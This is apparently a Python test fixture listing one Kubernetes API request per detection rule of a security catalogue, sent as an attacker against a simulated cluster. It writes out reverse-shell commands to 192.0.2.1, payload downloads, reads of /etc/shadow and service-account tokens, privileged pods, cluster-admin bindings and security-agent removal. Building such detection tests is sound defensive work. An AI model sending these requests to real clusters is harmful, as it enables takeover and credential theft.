"""One request for each priority 1 detection of the catalogue that a single request can show.

Each is what an attacker would send; all are made against a real API server by somebody who may
do everything (`mallory`), unless it is the refusal that tells. No image runs, but
kwok runs the commands on this machine: they do nothing.
"""

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Final

from tests.e2e.techniques import CORE, RBAC, REQUESTS, signing_request

Json = dict[str, Any]

ATTACKER: Final = "mallory"
NOBODY: Final = "eve"
APPS: Final = "/apis/apps/v1"
SHOP: Final = f"{CORE}/namespaces/shop"
SYSTEM: Final = f"{CORE}/namespaces/kube-system"
ADMISSION: Final = "/apis/admissionregistration.k8s.io/v1"
AUTHORIZATION: Final = "/apis/authorization.k8s.io/v1"


@dataclass(frozen=True, slots=True)
class Attack:
    """A request, and the detection of the catalogue that it is for.

    Attributes:
        id: the catalogue's.
        method: of HTTP.
        path: with its query.
        body: JSON.
        user: who asks; None for somebody without a credential.
        headers: further ones, such as `User-Agent` and `Impersonate-User`.
    """

    id: str
    method: str
    path: str
    body: Json | None = None
    user: str | None = ATTACKER
    headers: Mapping[str, str] = field(default_factory=dict)


def pod(name: str, namespace: str = "shop", image: str = "web", **parts: Any) -> Json:
    """Return a pod; parts of its container begin with `container_`."""
    own = {key: value for key, value in parts.items() if not key.startswith("container_")}
    container = {
        key.removeprefix("container_"): value
        for key, value in parts.items()
        if key.startswith("container_")
    }
    containers = [{"name": "c", "image": image, **container}]
    spec = {"containers": containers, **own}
    return {"metadata": {"name": name, "namespace": namespace}, "spec": spec}


def host_path(path: str) -> Json:
    return {"volumes": [{"name": "host", "hostPath": {"path": path}}]}


def workload(name: str, spec: Json) -> Json:
    labels = {"app": name}
    template = {"metadata": {"labels": labels}, "spec": spec}
    return {
        "metadata": {"name": name, "namespace": "shop"},
        "spec": {"selector": {"matchLabels": labels}, "template": template},
    }


def role(name: str, verbs: list[str], group: str, *resources: str) -> Json:
    rule = {"verbs": verbs, "apiGroups": [group], "resources": list(resources)}
    return {"metadata": {"name": name}, "rules": [rule]}


def binding(name: str, role: str, kind: str, subject: str, namespace: str | None = None) -> Json:
    bound = {"kind": kind, "name": subject}
    bound |= {"namespace": namespace} if namespace else {"apiGroup": "rbac.authorization.k8s.io"}
    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role}
    return {"metadata": {"name": name}, "roleRef": reference, "subjects": [bound]}


def webhook(name: str, config: Json, resources: list[str], policy: str = "Fail") -> Json:
    rule = {"operations": ["*"], "apiGroups": [""], "apiVersions": ["*"], "resources": resources}
    one = {
        "name": f"{name}.example.com",
        "clientConfig": config,
        "rules": [rule],
        "failurePolicy": policy,
        "sideEffects": "None",
        "admissionReviewVersions": ["v1"],
        # It must not get in the way of the requests that follow.
        "namespaceSelector": {"matchLabels": {"none": "such"}},
        "objectSelector": {"matchLabels": {"none": "such"}},
    }
    return {"metadata": {"name": name}, "webhooks": [one]}


def command(*arguments: str) -> str:
    query = "&".join(f"command={argument}" for argument in arguments)
    return f"{SHOP}/pods/target/exec?container=c&stdout=true&{query}"


_INSIDE: Final = {"service": {"namespace": "shop", "name": "hook", "path": "/"}}
_OUTSIDE: Final = {"url": "https://collector.example.com/hook"}
_PODS: Final = f"{SHOP}/pods"
_ROLES: Final = f"{RBAC}/clusterroles"
_BINDINGS: Final = f"{RBAC}/clusterrolebindings"
_PRIVILEGED: Final = {"securityContext": {"privileged": True}}

ATTACKS: Final = (
    Attack(
        "pod-privileged", "POST", _PODS, pod("a1", container_securityContext={"privileged": True})
    ),
    Attack(
        "pod-dangerous-caps",
        "POST",
        _PODS,
        pod("a2", container_securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
    ),
    Attack("pod-host-pid", "POST", _PODS, pod("a3", hostPID=True)),
    Attack("pod-sensitive-hostpath", "POST", _PODS, pod("a4", **host_path("/etc/kubernetes"))),
    Attack(
        "pod-docker-sock", "POST", _PODS, pod("a5", **host_path("/run/containerd/containerd.sock"))
    ),
    Attack("pod-cryptominer-image", "POST", _PODS, pod("a6", image="xmrig/xmrig:latest")),
    Attack(
        "pod-reverse-shell-args",
        "POST",
        _PODS,
        pod("a7", container_command=["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"]),
    ),
    Attack(
        "pod-node-debugger",
        "POST",
        _PODS,
        pod("node-debugger-node-1-abcde", hostPID=True, hostNetwork=True, **host_path("/")),
    ),
    Attack(
        "pod-mount-sa-high-priv",
        "POST",
        f"{SYSTEM}/pods",
        pod("a8", "kube-system", serviceAccountName="clusterrole-aggregation-controller"),
    ),
    Attack(
        "pv-hostpath",
        "POST",
        f"{CORE}/persistentvolumes",
        {
            "metadata": {"name": "a9"},
            "spec": {
                "capacity": {"storage": "1Gi"},
                "accessModes": ["ReadWriteOnce"],
                "hostPath": {"path": "/"},
            },
        },
    ),
    Attack(
        "daemonset-hostpid-priv",
        "POST",
        f"{APPS}/namespaces/shop/daemonsets",
        workload(
            "a10",
            {"hostPID": True, "containers": [{"name": "c", "image": "web", **_PRIVILEGED}]},
        ),
    ),
    Attack(
        "ephemeral-container",
        "PATCH",
        f"{SHOP}/pods/target/ephemeralcontainers",
        {"spec": {"ephemeralContainers": [{"name": "debug", "image": "busybox"}]}},
    ),
    Attack(
        "ephemeral-container-privileged",
        "PATCH",
        f"{SHOP}/pods/target/ephemeralcontainers",
        {"spec": {"ephemeralContainers": [{"name": "root", "image": "busybox", **_PRIVILEGED}]}},
    ),
    Attack("security-agent-removed", "DELETE", f"{APPS}/namespaces/falco/daemonsets/falco"),
    Attack("pod-exec-system-ns", "GET", f"{SYSTEM}/pods/target/exec?command=id&stdout=true"),
    Attack(
        "pod-exec-sa-token",
        "GET",
        command("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ),
    Attack("pod-exec-sensitive-file", "GET", command("cat", "/etc/shadow")),
    Attack(
        "pod-exec-imds",
        "GET",
        command("curl", "--version", "http://169.254.169.254/latest/meta-data/"),
    ),
    Attack(
        "pod-exec-reverse-shell",
        "GET",
        command("bash", "-c", "true+||+bash+-i+>%26+/dev/tcp/192.0.2.1/4444+0>%261"),
    ),
    Attack(
        "pod-exec-download", "GET", command("curl", "--version", "-o", "x", "http://192.0.2.1/x")
    ),
    Attack("nodes-proxy", "GET", f"{CORE}/nodes/node-1/proxy/pods"),
    Attack("nodes-proxy-exec", "POST", f"{CORE}/nodes/node-1/proxy/run/shop/target/c?cmd=id"),
    Attack("kubelet-checkpoint", "POST", f"{CORE}/nodes/node-1/proxy/checkpoint/shop/target/c"),
    Attack(
        "kubelet-sar-proxy",
        "POST",
        f"{AUTHORIZATION}/subjectaccessreviews",
        {
            "spec": {
                "user": ATTACKER,
                "resourceAttributes": {
                    "verb": "get",
                    "resource": "nodes",
                    "subresource": "proxy",
                    "name": "node-1",
                },
            }
        },
        user="system:node:node-1",
    ),
    Attack("secrets-list-cluster", "GET", f"{CORE}/secrets?limit=500"),
    Attack("secrets-list-sensitive-ns", "GET", f"{SYSTEM}/secrets"),
    Attack(
        "secret-get-script-ua",
        "GET",
        f"{SHOP}/secrets/credentials",
        headers={"User-Agent": "python-requests/2.32"},
    ),
    Attack(
        "sa-token-secret-created",
        "POST",
        f"{SHOP}/secrets",
        {
            "metadata": {
                "name": "a11",
                "annotations": {"kubernetes.io/service-account.name": "default"},
            },
            "type": "kubernetes.io/service-account-token",
        },
    ),
    Attack(
        "tokenrequest-long-expiry",
        "POST",
        f"{SHOP}/serviceaccounts/default/token",
        {"spec": {"expirationSeconds": 31_536_000}},
    ),
    Attack(
        "tokenrequest-other-ns",
        "POST",
        f"{SYSTEM}/serviceaccounts/clusterrole-aggregation-controller/token",
        {"spec": {}},
    ),
    Attack(
        "node-cred-misuse",
        "GET",
        f"{SHOP}/secrets/other",
        user="system:node:node-1",
        headers={"User-Agent": "curl/8.5.0"},
    ),
    Attack("rb-cluster-admin", "POST", _BINDINGS, binding("a12", "cluster-admin", "User", "bob")),
    Attack("rb-anonymous", "POST", _BINDINGS, binding("a13", "view", "User", "system:anonymous")),
    Attack(
        "rb-authenticated-all",
        "POST",
        _BINDINGS,
        binding("a14", "view", "Group", "system:authenticated"),
    ),
    Attack(
        "rb-system-masters", "POST", _BINDINGS, binding("a15", "view", "Group", "system:masters")
    ),
    Attack(
        "rb-default-sa",
        "POST",
        _BINDINGS,
        binding("a16", "edit", "ServiceAccount", "default", "shop"),
    ),
    Attack("role-wildcard", "POST", _ROLES, role("a17", ["*"], "*", "*")),
    Attack(
        "role-wildcard-elevation",
        "PATCH",
        f"{_ROLES}/plain",
        {"rules": role("", ["*"], "*", "*")["rules"]},
    ),
    Attack(
        "role-escalate-bind-impersonate",
        "POST",
        _ROLES,
        role("a18", ["escalate"], "rbac.authorization.k8s.io", "clusterroles"),
    ),
    Attack("role-nodes-proxy", "POST", _ROLES, role("a19", ["get"], "", "nodes/proxy")),
    Attack(
        "role-token-create", "POST", _ROLES, role("a20", ["create"], "", "serviceaccounts/token")
    ),
    Attack(
        "role-csr-approve",
        "POST",
        _ROLES,
        role("a21", ["update"], "certificates.k8s.io", "certificatesigningrequests/approval"),
    ),
    Attack(
        "role-system-modified",
        "PATCH",
        f"{_ROLES}/system:basic-user",
        {"metadata": {"labels": {"a": "b"}}},
    ),
    Attack(
        "rbac-escalation-attempt-denied",
        "POST",
        f"{RBAC}/namespaces/shop/roles",
        role("a22", ["*"], "*", "*"),
        user=NOBODY,
    ),
    Attack(
        "sa-created-system-ns", "POST", f"{SYSTEM}/serviceaccounts", {"metadata": {"name": "a23"}}
    ),
    Attack(
        "impersonate-privileged",
        "GET",
        f"{SHOP}/pods",
        headers={"Impersonate-User": "bob", "Impersonate-Group": "system:masters"},
    ),
    Attack(
        "impersonate-denied",
        "GET",
        f"{SHOP}/pods",
        user=NOBODY,
        headers={"Impersonate-User": "system:admin"},
    ),
    Attack("anon-allowed", "GET", f"{CORE}/namespaces/public/configmaps/open", user=None),
    Attack("anon-write-pods", "POST", _PODS, pod("a24"), user=None),
    Attack("attack-tool-ua", "GET", f"{SHOP}/pods", headers={"User-Agent": "kube-hunter"}),
    Attack(
        "system-user-from-user-agent",
        "GET",
        f"{SHOP}/pods",
        user="system:kube-controller-manager",
        headers={"User-Agent": "curl/8.5.0"},
    ),
    Attack("csr-client-created", "POST", REQUESTS, signing_request("a25", "bob")),
    Attack(
        "csr-privileged-subject",
        "POST",
        REQUESTS,
        signing_request("a26", "system:kube-controller-manager"),
    ),
    Attack(
        "csr-approved",
        "PUT",
        f"{REQUESTS}/a25/approval",
        signing_request("a25", "bob")
        | {
            "status": {
                "conditions": [
                    {"type": "Approved", "status": "True", "reason": "a", "message": "b"}
                ]
            }
        },
    ),
    Attack(
        "webhook-external-url",
        "POST",
        f"{ADMISSION}/mutatingwebhookconfigurations",
        webhook("a27", _OUTSIDE, ["pods"]),
    ),
    Attack(
        "webhook-intercepts-secrets",
        "POST",
        f"{ADMISSION}/validatingwebhookconfigurations",
        webhook("a28", _INSIDE, ["secrets"]),
    ),
    Attack(
        "webhook-fail-open",
        "PATCH",
        f"{ADMISSION}/validatingwebhookconfigurations/guard",
        {"webhooks": [{"name": "guard.example.com", "failurePolicy": "Ignore"}]},
    ),
    Attack("vap-tamper", "DELETE", f"{ADMISSION}/validatingadmissionpolicies/guard"),
    Attack(
        "psa-downgrade",
        "PATCH",
        f"{CORE}/namespaces/shop",
        {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
    ),
    Attack(
        "apiservice-hijack",
        "POST",
        "/apis/apiregistration.k8s.io/v1/apiservices",
        {
            "metadata": {"name": "v1.stolen.example.com"},
            "spec": {
                "group": "stolen.example.com",
                "version": "v1",
                "service": {"namespace": "shop", "name": "web"},
                "insecureSkipTLSVerify": True,
                "groupPriorityMinimum": 1000,
                "versionPriority": 15,
            },
        },
    ),
    Attack(
        "coredns-modified", "PATCH", f"{SYSTEM}/configmaps/coredns", {"data": {"Corefile": "."}}
    ),
    Attack(
        "aws-auth-modified", "PATCH", f"{SYSTEM}/configmaps/aws-auth", {"data": {"mapUsers": "x"}}
    ),
    Attack(
        "svc-externalips",
        "POST",
        f"{SHOP}/services",
        {
            "metadata": {"name": "a29"},
            "spec": {"ports": [{"port": 443}], "externalIPs": ["192.0.2.53"]},
        },
    ),
    Attack(
        "bootstrap-token-created",
        "POST",
        f"{SYSTEM}/secrets",
        {
            "metadata": {"name": "bootstrap-token-abcdef"},
            "type": "bootstrap.kubernetes.io/token",
            "stringData": {
                "token-id": "abcdef",
                "token-secret": "0123456789abcdef",
                "usage-bootstrap-authentication": "true",
            },
        },
    ),
)
